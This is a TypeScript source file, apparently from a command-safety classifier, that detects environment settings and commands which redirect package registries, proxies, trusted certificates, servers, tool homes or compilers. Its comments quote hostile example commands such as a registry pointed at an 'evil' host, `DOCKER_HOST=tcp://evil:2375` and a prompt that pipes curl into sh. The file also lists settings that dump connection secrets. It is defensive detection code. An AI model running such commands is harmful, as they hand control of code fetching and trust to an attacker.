import { ownEntry } from "../../core/index.ts";
/**
 * Settings that redirect where tools fetch code, whom they trust, or which program or server they use
 * (docs/adr/0323): `npm_config_registry=https://evil npm install`, `https_proxy=… REQUESTS_CA_BUNDLE=/tmp/ca.pem pip
 * install`, `export DOCKER_HOST=tcp://evil:2375`, `PS1='$(curl …|sh)' bash -i`, `hash -p /tmp/evil git`,
 * `cargo --config 'target.x86_64-unknown-linux-gnu.runner="/tmp/evil"' test`, `go env -w GOPROXY=…`. Their effect
 * shows only later, in another program: the call is SECURITY whatever it runs, as a prefix (`X=… cmd`), an
 * `export`/`declare -x`/`env`, or a plain assignment. Variables that run code themselves (`LD_PRELOAD`, `PAGER`,
 * `PROMPT_COMMAND`) are shell/code-env.ts's; turning certificate checks off is the tls-weakening hard deny.
 */
import { makeEvalEffects, outsideProject, type SimpleCommand } from "../shell/index.ts";
import { programKnowledge } from "./knowledge/index.ts";
import { scratchConfig } from "./scratch-config.ts";
import { switchedTarget, targetSetting } from "./switched-targets.ts";

/** Why a name matters. */
type Kind = "registry" | "proxy" | "trust" | "endpoint" | "config" | "code";

/** Exact names (upper case; proxies are read in either case by the tools). */
const NAMES: Readonly<Record<string, Kind>> = {
  // Package registries and mirrors: where every later install comes from.
  NPM_CONFIG_REGISTRY: "registry",
  YARN_REGISTRY: "registry",
  YARN_NPM_REGISTRY_SERVER: "registry",
  YARN_UNSAFE_HTTP_WHITELIST: "registry",
  BUN_CONFIG_REGISTRY: "registry",
  PIP_INDEX_URL: "registry",
  PIP_EXTRA_INDEX_URL: "registry",
  PIP_FIND_LINKS: "registry",
  UV_INDEX_URL: "registry",
  UV_EXTRA_INDEX_URL: "registry",
  UV_DEFAULT_INDEX: "registry",
  UV_INDEX: "registry",
  UV_FIND_LINKS: "registry",
  UV_INSECURE_HOST: "registry",
  PDM_PYPI_URL: "registry",
  PIPENV_PYPI_MIRROR: "registry",
  GOPROXY: "registry",
  GOSUMDB: "registry",
  GONOSUMDB: "registry",
  GONOSUMCHECK: "registry",
  GOINSECURE: "registry",
  RUBYGEMS_HOST: "registry",
  PUB_HOSTED_URL: "registry",
  HOMEBREW_BOTTLE_DOMAIN: "registry",
  HOMEBREW_ARTIFACT_DOMAIN: "registry",
  HOMEBREW_API_DOMAIN: "registry",
  NVM_NODEJS_ORG_MIRROR: "registry",
  NODEJS_ORG_MIRROR: "registry",
  ELECTRON_MIRROR: "registry",
  PUPPETEER_DOWNLOAD_BASE_URL: "registry",
  PLAYWRIGHT_DOWNLOAD_HOST: "registry",
  HF_ENDPOINT: "registry",
  CONDA_CHANNELS: "registry",
  // Proxies: every request goes through them.
  HTTP_PROXY: "proxy",
  HTTPS_PROXY: "proxy",
  ALL_PROXY: "proxy",
  FTP_PROXY: "proxy",
  SOCKS_PROXY: "proxy",
  SOCKS5_PROXY: "proxy",
  RSYNC_PROXY: "proxy",
  NPM_CONFIG_PROXY: "proxy",
  NPM_CONFIG_HTTPS_PROXY: "proxy",
  PIP_PROXY: "proxy",
  CARGO_HTTP_PROXY: "proxy",
  // Certificate authorities: a CA the attacker holds makes every TLS connection theirs.
  REQUESTS_CA_BUNDLE: "trust",
  SSL_CERT_FILE: "trust",
  SSL_CERT_DIR: "trust",
  CURL_CA_BUNDLE: "trust",
  NODE_EXTRA_CA_CERTS: "trust",
  GIT_SSL_CAINFO: "trust",
  GIT_SSL_CAPATH: "trust",
  AWS_CA_BUNDLE: "trust",
  PIP_CERT: "trust",
  NPM_CONFIG_CAFILE: "trust",
  NPM_CONFIG_CA: "trust",
  CARGO_HTTP_CAINFO: "trust",
  DENO_CERT: "trust",
  BUNDLE_SSL_CA_CERT: "trust",
  HTTPLIB2_CA_CERTS: "trust",
  GRPC_DEFAULT_SSL_ROOTS_FILE_PATH: "trust",
  WEBSOCKET_CLIENT_CA_BUNDLE: "trust",
  // Servers and daemons a client talks to, with the user's credentials or the project's files.
  DOCKER_HOST: "endpoint",
  CONTAINER_HOST: "endpoint",
  AWS_ENDPOINT_URL: "endpoint",
  ANTHROPIC_BASE_URL: "endpoint",
  OPENAI_BASE_URL: "endpoint",
  OPENAI_API_BASE: "endpoint",
  VAULT_ADDR: "endpoint",
  NOMAD_ADDR: "endpoint",
  CONSUL_HTTP_ADDR: "endpoint",
  GH_HOST: "endpoint",
  GITHUB_API_URL: "endpoint",
  // Configuration files that may name programs to run (kubeconfig `exec`, `credential_process`, credHelpers,
  // terraform's provider mirrors, git's config) or a whole tree of them.
  KUBECONFIG: "config",
  DOCKER_CONFIG: "config",
  AWS_CONFIG_FILE: "config",
  AWS_SHARED_CREDENTIALS_FILE: "config",
  CLOUDSDK_CONFIG: "config",
  AZURE_CONFIG_DIR: "config",
  TF_CLI_CONFIG_FILE: "config",
  TERRAFORM_CONFIG: "config",
  PIP_CONFIG_FILE: "config",
  NPM_CONFIG_USERCONFIG: "config",
  NPM_CONFIG_GLOBALCONFIG: "config",
  YARN_RC_FILENAME: "config",
  GNUPGHOME: "config",
  GIT_CONFIG_GLOBAL: "config",
  GIT_CONFIG_SYSTEM: "config",
  XDG_CONFIG_HOME: "config",
  // The home every tool reads its configuration, credentials helpers and startup files from (docs/adr/0357).
  HOME: "config",
  XDG_DATA_HOME: "config",
  USERPROFILE: "config",
  RUSTC_WRAPPER: "config",
  RUSTC_WORKSPACE_WRAPPER: "config",
  RUSTC: "config",
  RUSTDOC: "config",
  // Homes of a tool's configuration, plugins or packages (docs/adr/0512): `CURL_HOME` holds the .curlrc every
  // later curl reads, `GRADLE_USER_HOME` its init scripts, `CARGO_HOME` its config and binaries, `GEM_HOME` the
  // gems `require` loads, `GIT_DIR` the repository (and hooks) every later git acts on.
  CURL_HOME: "config",
  WGETRC: "config",
  CARGO_HOME: "config",
  RUSTUP_HOME: "config",
  GEM_HOME: "config",
  GEM_PATH: "config",
  GEMRC: "config",
  BUNDLE_USER_HOME: "config",
  BUNDLE_GEMFILE: "config",
  GRADLE_USER_HOME: "config",
  COMPOSER_HOME: "config",
  NUGET_PACKAGES: "config",
  HELM_CONFIG_HOME: "config",
  HELM_PLUGINS: "config",
  GIT_DIR: "config",
  GIT_WORK_TREE: "config",
  GIT_COMMON_DIR: "config",
  GIT_OBJECT_DIRECTORY: "config",
  // Code loaded into every later program of a runtime.
  DOTNET_STARTUP_HOOKS: "code",
  DOTNET_ADDITIONAL_DEPS: "code",
  CORECLR_PROFILER_PATH: "code",
  CORECLR_PROFILER_PATH_64: "code",
  // Code itself, run by the interpreter at start (docs/adr/0721): lua's `LUA_INIT` (code, or `@file`), perl's
  // debugger `PERL5DB`, vim's and ex's `VIMINIT`/`EXINIT` (ex commands, `:!` among them).
  LUA_INIT: "code",
  LUA_INIT_5_2: "code",
  LUA_INIT_5_3: "code",
  LUA_INIT_5_4: "code",
  PERL5DB: "code",
  VIMINIT: "code",
  EXINIT: "code",
  GVIMINIT: "code",
};

/** Families by prefix and suffix (upper case). */
const FAMILIES: readonly { readonly re: RegExp; readonly kind: Kind }[] = [
  { re: /^NPM_CONFIG_(?:@[^:]+:)?REGISTRY$/, kind: "registry" },
  { re: /^NPM_CONFIG_(?:\/\/.*:)?_?(?:AUTHTOKEN|CAFILE|CERTFILE|KEYFILE)$/, kind: "trust" },
  { re: /^YARN_(?:NPM_SCOPES_.*_NPM_REGISTRY_SERVER|HTTPS?_PROXY|CA_FILE_PATH|HTTPS_CA_FILE_PATH)$/, kind: "registry" },
  { re: /^POETRY_(?:REPOSITORIES|CERTIFICATES|SOURCE)_/, kind: "registry" },
  { re: /^CARGO_REGISTRIES_.*_INDEX$|^CARGO_REGISTRY_|^CARGO_SOURCE_/, kind: "registry" },
  {
    re: /^CARGO_TARGET_.*_(?:RUNNER|LINKER)$|^CARGO_BUILD_(?:RUSTC|RUSTC_WRAPPER|RUSTC_WORKSPACE_WRAPPER|RUSTDOC)$/,
    kind: "config",
  },
  { re: /^BUNDLE_MIRROR__/, kind: "registry" },
  { re: /^AWS_ENDPOINT_URL_/, kind: "endpoint" },
];

/**
 * Variables that name a program (or the home of a toolchain whose programs run) that build tools start instead of
 * their own: `CC=/tmp/evil make`, `JAVA_HOME=/tmp/j ./gradlew build`. A bare name is looked up on the search path,
 * a system path or a project-relative one is the machine's or the project's; anything else is code nobody read.
 */
const PROGRAMS = new Set([
  "CC",
  "CXX",
  "CPP",
  "LD",
  "AR",
  "AS",
  "NM",
  "RANLIB",
  "STRIP",
  "OBJCOPY",
  "FC",
  "F77",
  "HOSTCC",
  "MAKE",
  "CARGO",
  "PKG_CONFIG",
  "PYTHON",
  "NPM_CONFIG_PYTHON",
  "NODE",
  "JAVA_HOME",
  "JDK_HOME",
  "GOROOT",
  "M2_HOME",
  "MAVEN_HOME",
  "GRADLE_HOME",
  "DOTNET_ROOT",
  "CHROME_PATH",
  "PUPPETEER_EXECUTABLE_PATH",
  // The shell, terminal or editor other programs start (docs/adr/0357): `export SHELL=/tmp/x` runs it from
  // make, script, tmux, vim's :sh; an editor or pager variable not in shell/code-env.ts's table.
  "SHELL",
  "CONFIG_SHELL",
  "MAKESHELL",
  "TERMINAL",
  "X_TERMINAL_EMULATOR",
  "SUDO_EDITOR",
  "SYSTEMD_EDITOR",
  "KUBE_EDITOR",
  "GH_EDITOR",
  "GH_PAGER",
  "BAT_PAGER",
  "DELTA_PAGER",
  "PSQL_PAGER",
  "PSQL_EDITOR",
  "SVN_EDITOR",
  "HGEDITOR",
  "DIFFPROG",
]);
const SYSTEM_PROGRAMS = /^\/(?:usr|bin|sbin|lib|lib32|lib64|opt|nix\/store|snap|Library|Applications|System)\//;

/** The value names a program outside the system and the project (a bare name is found on the search path). */
function programOutside(name: string, value: string): boolean {
  const first = value.trim().split(/\s+/)[0] ?? "";
  if (first === "" || first === `$${name}` || first === `\${${name}}`) return false;
  if (!/[/$`~]/.test(first) || SYSTEM_PROGRAMS.test(first)) return false;
  return /^[/$`~]/.test(first) || first.startsWith("../");
}

/** Prompt strings: a command substitution in them runs at every prompt (`PS4` at every traced line). */
const SECRET_DUMPS = /^(?:SSLKEYLOGFILE|GIT_TRACE_CURL|GIT_CURL_VERBOSE)$/;
const PROMPTS = new Set(["PS0", "PS1", "PS2", "PS3", "PS4", "PROMPT", "RPROMPT", "RPS1", "PROMPT2", "PROMPT4"]);

function kindOf(name: string): Kind | null {
  const upper = name.toUpperCase();
  return ownEntry(NAMES, upper) ?? FAMILIES.find((f) => f.re.test(upper))?.kind ?? null;
}

/**
 * Where a tool reads its configuration when the variable is not set: naming that place (`KUBECONFIG=$HOME/.kube/config`)
 * changes nothing the tool does (docs/adr/0777). Only the exact path; `~` is the home marker of the analysis.
 */
const DEFAULT_PLACES: Readonly<Record<string, string>> = {
  KUBECONFIG: "~/.kube/config",
  DOCKER_CONFIG: "~/.docker",
  AWS_CONFIG_FILE: "~/.aws/config",
  AWS_SHARED_CREDENTIALS_FILE: "~/.aws/credentials",
};

/** What the setting keeps as it was: empty, or the variable's own value (`PATH=$PATH`), or a local docker socket. */
function harmless(name: string, value: string): boolean {
  const v = value.trim();
  if (v === "" || v === `$${name}` || v === `\${${name}}`) return true;
  const upper = name.toUpperCase();
  if (ownEntry(DEFAULT_PLACES, upper) === v.replace(/(.)\/+$/, "$1")) return true;
  // No configuration file at all (`PIP_CONFIG_FILE=/dev/null`): the tool runs on its defaults (docs/adr/0721).
  if (kindOf(name) === "config" && v === "/dev/null") return true;
  if (upper === "GOPROXY") return /^(?:direct|off|https:\/\/proxy\.golang\.org(?:,direct)?)$/.test(v);
  // A home or configuration inside the project (`KUBECONFIG=$PWD/kind-kubeconfig`, `CARGO_HOME=.cargo`) is the
  // project's own (docs/adr/0512).
  if (
    kindOf(name) === "config" &&
    /^(?:\$\{?PWD\}?\/|\.\/|(?![/$~`])[\w.-]+(?:\/[\w.-]+)*$)/.test(v) &&
    !v.includes("..")
  )
    return true;
  return upper === "DOCKER_HOST" && /^unix:\/\/\/(?:var\/)?run\/docker\.sock$/.test(v);
}

/**
 * Option strings that every later run of a tool reads (docs/adr/0357): make's `MAKEFLAGS='SHELL=/tmp/x'` sets
 * make variables, `GOFLAGS=-insecure` fetches modules over plain HTTP and `-toolexec` runs a program around every
 * tool, `RUSTFLAGS='-C linker=/tmp/x'` links with another program, `PYTHONWARNINGS` imports the module its
 * category names (`ignore::x.y`), and `PERL5OPT` loads the modules its `-M`/`-I` name.
 */
function flagsSetting(name: string, value: string): string | null {
  const upper = name.toUpperCase();
  const words = value.split(/\s+/).filter((w) => w !== "");
  if (upper === "MAKEFLAGS" || upper === "MFLAGS" || upper === "GNUMAKEFLAGS") {
    // `--eval=TEXT` (make reads `\ ` in it as a blank) is a makefile line every later make evaluates (docs/adr/0868).
    for (const m of value.matchAll(/(?:^|\s)(?:--eval=|-E\s*)((?:\\\s|\S)+)/g)) {
      const effects = makeEvalEffects(m[1]!.replace(/\\(\s)/g, "$1"));
      if (effects.commands.length > 0 || effects.includes.some(outsideProject))
        return `${name} makes every later make run a command or include a makefile from outside the project`;
    }
    for (const w of words) {
      const eq = w.indexOf("=");
      const why = eq > 0 && !w.startsWith("-") ? redirectingSetting(w.slice(0, eq), w.slice(eq + 1)) : null;
      if (why !== null) return `${name}: ${why}`;
    }
    return null;
  }
  if (upper === "GOFLAGS")
    return words.some((w) => /^--?(?:insecure|toolexec|exec|overlay)(?:=|$)/.test(w))
      ? `${name} changes how every later go command fetches or runs code`
      : null;
  if (upper === "RUSTFLAGS" || upper === "CARGO_ENCODED_RUSTFLAGS") {
    const m = /-C\s*linker=(\S+)/.exec(value.replace(/\x1f/g, " "));
    return m !== null && programOutside("LD", m[1]!) ? `${name} links with ${m[1]}, a program from outside` : null;
  }
  if (upper === "PYTHONWARNINGS")
    return value.split(",").some((f) => /[.(]/.test(f.split(":").slice(2).join(":")))
      ? `${name} imports the module its warning category names`
      : null;
  // Maven's and Gradle's JVM options naming another repository, settings file, user home or agent (docs/adr/0512).
  if (upper === "MAVEN_OPTS" || upper === "GRADLE_OPTS" || upper === "SBT_OPTS")
    return /(?:^|\s)(?:-D(?:maven\.repo|remoteRepositories|altDeploymentRepository|altReleaseDeploymentRepository|altSnapshotDeploymentRepository|org\.apache\.maven\.(?:user|global)-settings|gradle\.user\.home|sbt\.global\.base|sbt\.repository)|-(?:javaagent|agentpath|agentlib)[:=]|-s\s|--settings|--init-script|-I\s)/.test(
      value,
    )
      ? `${name} points every later build at another repository, settings or agent`
      : null;
  // `ssh -i /tmp/key` or another agent or config: every later git fetch and push signs as someone else.
  if (upper === "GIT_SSH_COMMAND")
    return /(?:^|\s)-(?:i|F|S)\s*\S|IdentityFile|IdentityAgent|CertificateFile/.test(value)
      ? `${name} makes git sign in with another key or agent`
      : null;
  // Shell code at every prompt: only history bookkeeping is usual (docs/adr/0512).
  if (upper === "PROMPT_COMMAND")
    return value
      .split(/[;\n]|&&/)
      .map((c) => c.trim())
      .every(
        (c) =>
          c === "" ||
          /^(?:history(?:\s+-[a-z]+)*|update_terminal_cwd|__\w+|_\w+|\$PROMPT_COMMAND|\$\{PROMPT_COMMAND\})$/.test(c),
      )
      ? null
      : `${name} runs a command before every prompt`;
  // The Erlang VM's extra arguments (docs/adr/0721): `-eval` runs code, `-s`/`-run` call a function at start,
  // `-pa`/`-pz` put a code path first, `-config` loads a configuration; `-kernel shell_history enabled` is usual.
  if (/^ERL_[AZ]?FLAGS$/.test(upper))
    return words.some((w) => /^-(?:eval|s|run|pa|pz|config|args_file|boot)$/.test(w))
      ? `${name} makes every later Erlang VM run code at start`
      : null;
  // The function `breakpoint()` calls: a debugger's `set_trace` (or `0`, off) is usual; anything else
  // (`os.system`) is called with breakpoint's arguments.
  if (upper === "PYTHONBREAKPOINT")
    return /^(?:0|\w+(?:\.\w+)*\.set_trace|builtins\.breakpoint)?$/.test(value.trim())
      ? null
      : `${name} makes breakpoint() call ${value.trim()}`;
  if (upper === "PERL5OPT")
    return words.some((w) => /^-[MmI]/.test(w)) ? `${name} loads a module into every later perl` : null;
  return null;
}

/** One reason, or null. */
export function redirectingSetting(name: string, value: string): string | null {
  // Secrets of every connection written where anyone may read them (docs/adr/0644): TLS session keys
  // (`SSLKEYLOGFILE`), git's HTTP traffic with its Authorization headers (`GIT_TRACE_CURL`, `GIT_CURL_VERBOSE`).
  if (SECRET_DUMPS.test(name.toUpperCase()) && !/^(?:0|false|no|off)?$/i.test(value.trim()))
    return `${name} writes the secrets of every connection where they can be read`;
  if (PROMPTS.has(name)) return /\$\(|`/.test(value) ? `${name} runs a command at every prompt` : null;
  const flags = flagsSetting(name, value);
  if (flags !== null) return flags;
  if (PROGRAMS.has(name.toUpperCase()))
    return programOutside(name, value) ? `${name} makes the build run ${value.trim()}, a program from outside` : null;
  const target = targetSetting(name, value);
  if (target !== null) return target;
  const scratch = scratchConfig(name, value);
  if (scratch !== null) return scratch;
  const kind = kindOf(name);
  if (kind === null || harmless(name, value)) return null;
  const what: Record<Kind, string> = {
    registry: "where packages are fetched from",
    proxy: "the proxy every request goes through",
    trust: "which certificates are trusted",
    endpoint: "the server the client talks to",
    config: "the configuration (and the programs it names) a tool loads",
    code: "the code every later program of its runtime loads",
  };
  return `${name} changes ${what[kind]}`;
}

/** cargo `--config KEY=VALUE` keys that run a program or change where crates come from. */
const CARGO_KEYS =
  /(?:^|\.)(?:runner|linker|ar|rustc|rustc-wrapper|rustc-workspace-wrapper|rustdoc|credential-provider|global-credential-providers|replace-with|index|registry|proxy|cainfo|check-revoke)\s*$/;

/** git's repository variables and application environments, and the programs that keep an assignment for later ones or are git. */
const PREFIX_ONLY =
  /^(?:GIT_DIR|GIT_WORK_TREE|GIT_COMMON_DIR|GIT_OBJECT_DIRECTORY|RAILS_ENV|RACK_ENV|APP_ENV|DJANGO_ENV|FLASK_ENV|ASPNETCORE_ENVIRONMENT|DOTNET_ENVIRONMENT|SPRING_PROFILES_ACTIVE)$/;
const KEEPS = new Set(["", "export", "declare", "typeset", "readonly", "local", "env", "git"]);

/** Why the command redirects a later program, or null. */
export function redirectingEnv(cmd: SimpleCommand): string | null {
  for (const a of cmd.assignments) {
    // git's repository variables given to one other program (`GIT_DIR=/x echo $GIT_DIR`) reach no git; an
    // application environment given to one command is that command's (database-tasks.ts reads it there).
    if (PREFIX_ONLY.test(a.name.toUpperCase()) && !KEEPS.has(cmd.program)) continue;
    const why = redirectingSetting(a.name, a.value);
    if (why !== null) return why;
  }
  const p = cmd.program;
  const args = cmd.args;
  // `hash -p FILE NAME`: the name runs FILE from now on; `enable -f LIB NAME` loads a builtin from a library.
  if (p === "hash" && args.some((a) => /^-[a-zA-Z]*p/.test(a))) return "hash -p makes a command name run another file";
  if (p === "enable" && args.some((a) => /^-[a-zA-Z]*f/.test(a))) return "enable -f loads a builtin from a library";
  // `git() { …; }; export -f git`: every later bash runs the function for the program's name (docs/adr/0512).
  const shadowed = exportedFunctions(p, args).find((n) => programKnowledge(n) !== undefined);
  if (shadowed !== undefined) return `export -f ${shadowed} makes every later ${shadowed} run a function instead`;
  if (p === "cargo") {
    for (const v of optionValues(args, "--config")) {
      const eq = v.indexOf("=");
      if (eq < 0) return `cargo --config ${v} loads a configuration file`;
      if (CARGO_KEYS.test(v.slice(0, eq))) return `cargo --config ${v.slice(0, eq).trim()} names a program or a source`;
    }
  }
  // `go env -w K=V` writes the setting into go's own env file: every later go command reads it.
  if (p === "go" && args[0] === "env" && args.some((a) => a === "-w")) {
    for (const w of args.slice(1)) {
      const eq = w.indexOf("=");
      const why = eq > 0 ? redirectingSetting(w.slice(0, eq), w.slice(eq + 1)) : null;
      if (why !== null) return `go env -w: ${why}`;
    }
  }
  return switchedTarget(cmd);
}

/** The functions `export -f NAME` or `declare -fx NAME` exports. */
function exportedFunctions(program: string, args: readonly string[]): string[] {
  const flags = args.filter((a) => /^-[a-zA-Z]+$/.test(a)).join("");
  const exports =
    (program === "export" && flags.includes("f")) ||
    ((program === "declare" || program === "typeset") && flags.includes("f") && flags.includes("x"));
  return exports ? args.filter((a) => !a.startsWith("-") && !a.includes("=")) : [];
}

function optionValues(args: readonly string[], name: string): string[] {
  const out: string[] = [];
  for (let i = 0; i < args.length; i++) {
    const a = args[i]!;
    if (a === "--") break;
    if (a === name && i + 1 < args.length) out.push(args[++i]!);
    else if (a.startsWith(`${name}=`)) out.push(a.slice(name.length + 1));
  }
  return out;
}
